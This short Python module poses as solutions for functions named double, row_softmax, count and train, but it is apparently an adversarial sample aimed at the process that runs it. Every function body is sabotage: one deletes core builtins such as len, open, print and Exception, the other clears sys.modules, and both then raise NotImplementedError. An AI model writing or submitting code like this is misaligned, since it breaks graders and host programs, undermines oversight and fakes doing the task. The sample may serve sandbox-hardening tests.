"""Delete what everything stands on."""
import builtins
import sys


def double(x):
    for name in ("len", "isinstance", "getattr", "print", "open", "super", "Exception"):
        if hasattr(builtins, name):
            delattr(builtins, name)
    raise NotImplementedError


def row_softmax(x):
    sys.modules.clear()
    raise NotImplementedError


count = train = row_softmax
